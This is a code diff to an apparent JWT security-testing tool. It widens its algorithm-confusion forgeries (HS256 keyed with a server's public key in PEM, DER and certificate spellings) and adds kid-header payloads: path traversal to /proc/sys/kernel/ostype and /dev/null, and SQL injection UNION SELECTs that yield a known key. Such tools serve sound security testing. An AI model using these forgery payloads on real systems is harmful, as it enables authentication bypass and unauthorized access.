@@ -60,7 +60,7 @@ class Baseline:
         try:
             header = json.loads(_loose(h64))
             claims = json.loads(_loose(p64))
-        except ValueError:
+        except (ValueError, RecursionError):
             raise BadInput("the baseline token's header or payload is not base64url JSON") from None
         if not isinstance(header, dict) or not isinstance(claims, dict):
             raise BadInput("the baseline token's header and payload must be JSON objects")
@@ -165,19 +165,51 @@ def tampered_payload(b: Baseline) -> list[Forgery]:
     ]
 
 
-def key_confusion(b: Baseline, public_key: Any) -> list[Forgery]:
-    """HS256 keyed with the API's *public* key in the spellings verifiers read
-    it from disk: PEM with/without final newline, PKCS#1 PEM, DER."""
+def key_confusion(b: Baseline, public_key: Any, raw: bytes | None = None) -> list[Forgery]:
+    """HS256 keyed with the API's *public* key in every spelling a verifier may
+    read from disk (CVE-2015-9235 and its kin).
+
+    ``raw`` is the exact content of the key or certificate file the API
+    publishes: a server that HMACs with ``open(path).read()`` uses *those*
+    bytes (a certificate PEM as some IdPs publish it, trailing newline or not),
+    which no re-serialisation reproduces.  Then the key itself: SPKI PEM (with,
+    without final newline, CRLF), PKCS#1 PEM and DER for RSA, SPKI DER, and the
+    certificate's DER when ``raw`` is a certificate.  Duplicates are sent once.
+    """
     spellings: list[tuple[str, bytes]] = []
+    if raw:
+        body = raw.rstrip(b"\r\n")
+        spellings.append(("the exact bytes of the given file", raw))
+        spellings.append(("the given file without trailing newline", body))
+        spellings.append(("the given file with one trailing newline", body + b"\n"))
+        spellings.append(
+            (
+                "the given file with CRLF line ends",
+                body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n") + b"\r\n",
+            )
+        )
+        if b"CERTIFICATE-----" in raw:
+            from cryptography import x509
+
+            try:
+                cert = x509.load_pem_x509_certificate(raw)
+                spellings.append(
+                    ("the given certificate as DER", cert.public_bytes(serialization.Encoding.DER))
+                )
+            except ValueError:
+                pass
     pem = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
     spellings.append(("SPKI PEM", pem))
     spellings.append(("SPKI PEM without final newline", pem.rstrip(b"\n")))
     spellings.append(("SPKI PEM with CRLF", pem.replace(b"\n", b"\r\n")))
     if isinstance(public_key, rsa.RSAPublicKey):
+        pkcs1 = public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
+        spellings.append(("PKCS#1 PEM", pkcs1))
+        spellings.append(("PKCS#1 PEM without final newline", pkcs1.rstrip(b"\n")))
         spellings.append(
             (
-                "PKCS#1 PEM",
-                public_key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
+                "PKCS#1 DER",
+                public_key.public_bytes(serialization.Encoding.DER, serialization.PublicFormat.PKCS1),
             )
         )
     spellings.append(
@@ -189,10 +221,15 @@ def key_confusion(b: Baseline, public_key: Any) -> list[Forgery]:
         )
     )
     header = {**b.header, "alg": "HS256"}
-    return [
-        Forgery("jwt.key-confusion", f"HS256 keyed with {name}", hmac_token(header, b.claims, key))
-        for name, key in spellings
-    ]
+    seen: set[bytes] = set()
+    out = []
+    for name, key in spellings:
+        if key and key not in seen:
+            seen.add(key)
+            out.append(
+                Forgery("jwt.key-confusion", f"HS256 keyed with {name}", hmac_token(header, b.claims, key))
+            )
+    return out
 
 
 def _attacker_alg(b: Baseline) -> tuple[str, str]:
@@ -266,12 +303,37 @@ def jku_document(b: Baseline, kid: str = "apisec-jku") -> dict[str, Any]:
     return {"keys": [public_jwk(attacker_key(kind), kid)]}
 
 
+#: (label, kid, the HMAC key a vulnerable server then uses).  Each payload assumes a
+#: server that turns ``kid`` into key bytes without an allow-list:
+#:
+#: * file paths (``open(base + kid).read()``): the key is the file's content, so
+#:   only files whose content an attacker can predict are useful.
+#:   ``/proc/sys/kernel/ostype`` reads ``Linux\n`` on every Linux kernel (and in
+#:   every container); ``/proc/sys/kernel/randomize_va_space`` reads ``2\n`` on any
+#:   default-configured Linux; both are tried with and without the newline (a
+#:   server may strip it).  ``/dev/null`` (empty key) catches libraries that accept
+#:   an empty HMAC key; PyJWT >= 2.10 and most current ones refuse it, which is why
+#:   the non-empty files matter.  Relative traversal (``../`` x 8) and absolute
+#:   paths both, because servers either join or pass the value through;
+#: * SQL (``SELECT key FROM keys WHERE kid = '<kid>'``): a UNION that selects the
+#:   literal ``apisec``, closed by a comment or by the server's own closing quote,
+#:   and a numeric-context variant; valid in SQLite, PostgreSQL and MySQL;
+#: * the empty kid with an empty key (a lookup that falls back to "").
+_TRAVERSAL = "../../../../../../../.."
 KID_INJECTIONS: tuple[tuple[str, str, bytes], ...] = (
-    ("kid path traversal to /dev/null, empty key", "../../../../../../../../dev/null", b""),
+    ("kid path traversal to /proc/sys/kernel/ostype ('Linux\\n')", f"{_TRAVERSAL}/proc/sys/kernel/ostype", b"Linux\n"),
+    ("kid path traversal to /proc/sys/kernel/ostype, newline stripped", f"{_TRAVERSAL}/proc/sys/kernel/ostype", b"Linux"),
+    ("kid absolute /proc/sys/kernel/ostype ('Linux\\n')", "/proc/sys/kernel/ostype", b"Linux\n"),
+    ("kid absolute /proc/sys/kernel/ostype, newline stripped", "/proc/sys/kernel/ostype", b"Linux"),
+    ("kid path traversal to /proc/sys/kernel/randomize_va_space ('2\\n')", f"{_TRAVERSAL}/proc/sys/kernel/randomize_va_space", b"2\n"),
+    ("kid absolute /proc/sys/kernel/randomize_va_space ('2\\n')", "/proc/sys/kernel/randomize_va_space", b"2\n"),
+    ("kid path traversal to /dev/null, empty key", f"{_TRAVERSAL}/dev/null", b""),
     ("kid absolute /dev/null, empty key", "/dev/null", b""),
     ("kid empty string, empty key", "", b""),
-    ("kid SQL injection selecting a known key", "apisec-none' UNION SELECT 'apisec' -- ", b"apisec"),
-)
+    ("kid SQL injection: UNION SELECT 'apisec', comment", "apisec-none' UNION SELECT 'apisec' -- ", b"apisec"),
+    ("kid SQL injection: UNION SELECT 'apisec', server's closing quote", "apisec-none' UNION SELECT 'apisec", b"apisec"),
+    ("kid SQL injection: numeric UNION SELECT 'apisec'", "-1 UNION SELECT 'apisec'", b"apisec"),
+)  # fmt: skip
 
 
 def kid_injection(b: Baseline) -> list[Forgery]:
